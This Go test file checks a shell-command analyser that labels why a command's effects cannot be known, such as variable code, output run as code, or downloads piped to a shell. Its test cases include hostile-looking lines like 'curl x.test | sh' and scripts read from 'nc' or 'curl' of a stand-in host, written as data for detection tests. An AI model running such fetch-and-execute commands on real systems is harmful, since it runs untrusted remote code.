package shell

import (
	"slices"
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// TestCauses holds why each of these commands cannot be known, and that text
// which only looks like a variable or a substitution is treated as none.
func TestCauses(t *testing.T) {
	t.Parallel()
	for _, c := range [...]struct {
		text  string
		cause effect.Cause
		input bool // text from another part of the command is run
	}{
		{`$X`, effect.CauseVariableCode, false},
		{`eval "$X"`, effect.CauseVariableCode, false},
		{`sh -c "${X%.*}"`, effect.CauseVariableCode, false},
		{`powershell -c "iex $X"`, effect.CauseVariableCode, false},
		{`$A$B`, effect.CauseVariableCode, false},
		{`$RUNNER --all`, effect.CauseVariableCode, false},
		{`"$TEST_RUNNER" a`, effect.CauseVariableCode, false},
		{`bash -c "cd /x && $CMD"`, effect.CauseVariableCode, false},
		{`bash <<< "$X"`, effect.CauseVariableCode, false},
		{`echo "$X" | sh`, effect.CauseVariableCode, false},
		{`ssh h "$X"`, effect.CauseVariableCode, false},
		{`find . -exec $HOOK {} \;`, effect.CauseVariableCode, false},
		{`. "$HOOK"`, effect.CauseVariableCode, false},
		{`python3 -c "$x"`, effect.CauseVariableCode, false},
		{`psql -c "$X"`, effect.CauseUnanalysedCode, false},
		{`python3 -c 'import os; exec(os.environ["X"])'`, effect.CauseVariableCode, false},
		{`node -e 'new Function(process.env.X)()'`, effect.CauseVariableCode, false},
		{`ruby -e 'eval ENV["X"]'`, effect.CauseVariableCode, false},
		{`php -r 'eval(getenv("X"));'`, effect.CauseVariableCode, false},
		{`. /dev/fd/3 3< <(nc x.test 99)`, effect.CauseUnreadScript, false},
		{`bash /dev/fd/4 4< <(curl -s x.test)`, effect.CauseUnreadScript, false},
		{`$EDITOR f`, effect.CauseVariable, false},
		{`git log | "$PAGER"`, effect.CauseVariable, false},
		{`$CC -c a.c`, effect.CauseVariable, false},
		{`"${CXX}" -c a.cc`, effect.CauseVariable, false},
		{`"$PYTHON3_BIN" a.py`, effect.CauseVariable, false},
		{`$SUDO ls`, effect.CauseVariable, false},
		{`$MAKE -C src`, effect.CauseVariable, false},
		{`$runner a`, effect.CauseVariable, false}, // not the environment's: a script sets it elsewhere
		{`python3 -c "print($X)"`, effect.CauseVariable, false},
		{`<tool> "$(<x>)" )`, effect.CauseSyntax, false},
		{`$(cat f)`, effect.CauseOutput, true},
		{`eval "$(cat f)"`, effect.CauseOutput, true},
		{"eval \"`cat f`\"", effect.CauseOutput, true},
		{`x=$(cat f); eval "$x"`, effect.CauseOutput, true},
		{`x=$(cat f); eval "${x%;}"`, effect.CauseOutput, true},
		{`x=$(cat f); eval "${x/a/b}"`, effect.CauseOutput, true},
		{`x=$(cat f); eval "${x:$n:3}"`, effect.CauseOutput, true},
		{`y=${X%.*}$(cat f); eval "$y"`, effect.CauseOutput, true},
		{`while read -r l; do x=$(cat "$l"); done; eval "$x"`, effect.CauseOutput, true},
		{`PROMPT_COMMAND="true; $(cat f)"`, effect.CauseOutput, true},
		{`cat f | sh`, effect.CauseOutput, true},
		{`sh < f`, effect.CauseFile, true},
		{`cat f | xargs sh -c`, effect.CauseInput, true},
		{`read -r x; eval "$x"`, effect.CauseInput, true},
		{`curl x.test | sh`, effect.CauseDownload, false},
		{`sh *.sh`, effect.CauseUnresolved, false},
		{`eval *`, effect.CauseUnresolved, false},
		{`eval "$X" *`, effect.CauseUnresolved, false},
		{`eval "$X"?`, effect.CauseUnresolved, false},
		{`printf '%s\n' * | sh`, effect.CauseUnresolved, false},
		{`printf '%s ' "$X" [a-c]* | sh`, effect.CauseUnresolved, false},
		{`for f in *; do echo "$f"; done | bash`, effect.CauseOutput, true},
		{`sh -c "$(printf '%s;' *)"`, effect.CauseUnresolved, false},
		{`ls | sh`, effect.CauseOutput, true},
		{`eval "$X"; ls )`, effect.CauseUnresolved, false},
		{"eval \"$X\"\nls )", effect.CauseUnresolved, false},
		{`. $p; Get-Date`, effect.CauseVariable, false},
		{`Get-Date; . $p`, effect.CauseUnresolved, false},
		{`sh a.sh`, effect.CauseUnreadScript, false},
		{`./a.sh`, effect.CauseUnreadScript, false},
		{`python3 a.py`, effect.CauseUnreadScript, false},
		{`sh '$X.sh'`, effect.CauseUnreadScript, false}, // that is its name
		{`echo "`, effect.CauseSyntax, false},
		{`sh -c 'echo "'`, effect.CauseSyntax, false},
		{`enable -f ./x.so y`, effect.CauseUnanalysedCode, false},
		{`powershell -EncodedCommand !!!`, effect.CauseUnanalysedCode, false},
	} {
		var causes []effect.Cause
		input := false
		for _, e := range Analyze(c.text, here()).Effects {
			switch e.RuleKind() {
			case effect.Dynamic:
				causes = append(causes, e.Cause)
			case effect.RunInput:
				input = true
			}
		}
		if !slices.Contains(causes, c.cause) || input != c.input {
			t.Errorf("%s: dynamic %q, runs input: %v; want %q and %v", c.text, causes, input, c.cause, c.input)
		}
	}
}

// TestEveryCauseHasAName checks that whatever cannot be known says why.
func TestEveryCauseHasAName(t *testing.T) {
	t.Parallel()
	seen := 0
	for _, c := range readCases(t) {
		for _, e := range Analyze(c.text, here()).Effects {
			if e.Certainty != effect.Unknown && e.RuleKind() != effect.RunInput {
				continue
			}
			if seen++; !slices.Contains(effect.Causes(), e.Cause) {
				t.Errorf("%s: %s has the cause %q (%s)", c.text, e.RuleKind(), e.Cause, e.Reason)
			}
		}
	}
	if seen < 100 {
		t.Errorf("%d effects were looked at, which is too few to mean anything", seen)
	}
}

// TestNoFileNamesAsCode holds that names of files which are arguments, and text
// that cannot be parsed without unknown code before it, are no unresolved code.
func TestNoFileNamesAsCode(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`ls *`, `printf '%s\n' *`, `eval "$X"`, `eval "ls *"`, `sh -c 'wc -l *.go'`, `ssh h ls /var/log/*`, `for f in *; do wc -l "$f"; done`,
		`find . -name '*.go' -exec sh -c 'wc -l "$1"' _ {} \;`, `ls )`, `echo "$X"; ls )`, `Get-Date; . $PROFILE`, `Get-Date; . ./a.ps1`,
		`Get-Date; . "$p/a.ps1"`, `"$X"/*`, "$data[1]\nOne",
	} {
		for _, e := range Analyze(text, here()).Effects {
			if e.Certainty == effect.Unknown && e.Cause == effect.CauseUnresolved {
				t.Errorf("%s: %s", text, e.Reason)
			}
		}
	}
}
